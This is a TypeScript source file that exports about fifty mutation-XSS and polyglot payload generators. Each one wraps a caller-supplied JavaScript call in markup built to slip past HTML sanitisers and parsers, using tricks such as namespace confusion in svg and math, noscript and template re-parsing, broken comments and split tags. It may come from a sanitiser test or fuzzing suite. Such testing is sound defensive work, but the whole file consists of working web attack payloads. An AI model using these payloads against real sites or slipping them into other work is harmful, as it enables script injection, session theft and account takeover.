import type { Attack } from './pieces.ts'

const image = (call: string) => `<img src=x onerror=${call}>`

/**
 * Mutation XSS: markup that changes its meaning when it is parsed, serialised and parsed again, and some that
 * many parsers misread.
 */
const mended: readonly Attack[] = [
  ({ call }) => `<noscript><p title="</noscript>${image(call)}">`,
  ({ call }) => `<math><mtext><table><mglyph><style><!--</style>${image(call)}-->`,
  ({ call }) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${image(call)}">`,
  ({ call }) => `<svg><style><a title="</style>${image(call)}">`,
  ({ call }) => `<svg></p><style><a id="</style>${image(call)}">`,
  ({ call }) => `<svg><foreignObject><p><style><b title="</style>${image(call)}">`,
  ({ call }) => `<svg><title><style><!--</style>${image(call)}--></title></svg>`,
  ({ call }) => `<svg><desc><noembed><p id="</noembed>${image(call)}">`,
  ({ call }) => `<form><math><mtext></form><form><mglyph><style></math>${image(call)}`,
  ({ call }) => `<table><tr><td><select><template><p></select>${image(call)}`,
  ({ call }) => `<select><iframe></select>${image(call)}`,
  ({ call }) => `<template><template shadowrootmode=open>${image(call)}</template></template>`,
  ({ call }) => `<div><template shadowrootmode=open><script>${call}</script></template></div>`,
  ({ call }) => `<xmp><p title="</xmp>${image(call)}">`,
  ({ call }) => `<noembed><p title="</noembed>${image(call)}">`,
  ({ call }) => `<noframes><p title="</noframes>${image(call)}">`,
  ({ call }) => `<plaintext>${image(call)}`,
  ({ call }) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  ({ call }) => `<iframe srcdoc="<img src=x onerror=parent.${call}>"></iframe>`,
  ({ call }) => `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;">`,
  ({ call }) => `<svg><script>&#120;ss${call.slice(3)}</script></svg>`,
  ({ call }) => `<svg><script xlink:href=data:,${call}></script></svg>`,
  ({ call }) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call} />#x">`,
  ({ call }) =>
    `<svg><animate href=#x attributeName=href values=javascript:${call} /><a id=x><text>x</text></a>`,
  ({ call }) => `<math><annotation-xml encoding="text/html">${image(call)}</annotation-xml></math>`,
  ({ call }) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  ({ call }) => `<!--><script>${call}</script>-->`,
  ({ call }) => `<!--!><script>${call}</script>`,
  ({ call }) => `<!-- <!-- --!><script>${call}</script>`,
  ({ call }) => `<![><img src=x onerror=${call}>`,
  ({ call }) => `</<script>${call}</script>`,
  ({ call }) => `<<script>${call}//<</script>`,
  ({ call }) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  ({ call }) => `<sCrIpT\n>${call}</ScRiPt\t>`,
  ({ call }) => `<script/x>${call}</script foo>`,
  ({ call }) => `<script\u0000>${call}</script>`,
  ({ call }) => `<img/src='x'/onerror='${call}'`,
  ({ call }) => `<img src=x onerror="${call}`,
  ({ call }) => `<img src="x\` \`<script>${call}</script>"\` \`>`,
  ({ call }) => `<img """><script>${call}</script>">`,
  ({ call }) => `<svg/onload=${call}//`,
  ({ call }) => `<svg onload=${call}<!--`,
  ({ call }) => `<a href="x"onclick="${call}"autofocus>`,
  ({ call }) => `<a\u000chref=javascript:${call}>press`,
  ({ call }) => `<x onclick=${call} id=x tabindex=1 autofocus onfocus=${call}>`,
  ({ call }) => `<b "<script>${call}</script>">`,
  ({ call }) => `<p/title='><script>${call}</script>'>`,
  ({ call }) => `<br size="&{${call}}">`,
]

/** Polyglots: one text for many contexts. */
const polyglots: readonly Attack[] = [
  ({ call }) =>
    `"'/*\`--></title></style></textarea></script></noscript><svg/onload=${call}>//javascript:${call}`,
  ({ call }) => `';${call}//";${call}//\`;${call}//--></script>">'><script>${call}</script>`,
  ({ call }) =>
    `javascript:/*--></title></style></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  ({ call }) => `*/${call}/*<!-- "' onfocus=${call} autofocus> -->`,
  ({ call }) => `\\";${call};//</script><img src=x onerror=${call}>`,
  ({ call }) => `]]>"'><img src=x onerror=${call}><!--{{${call}}}\${${call}}`,
  ({ call }) => `=1+1;"><script>${call}</script>\r\nX: y\r\n\r\n<svg onload=${call}>`,
  ({ call }) => `[x](javascript:${call})"><img src=x onerror=${call}> {{7*7}} %0d%0a`,
]

export const mutations: readonly Attack[] = [...mended, ...polyglots]
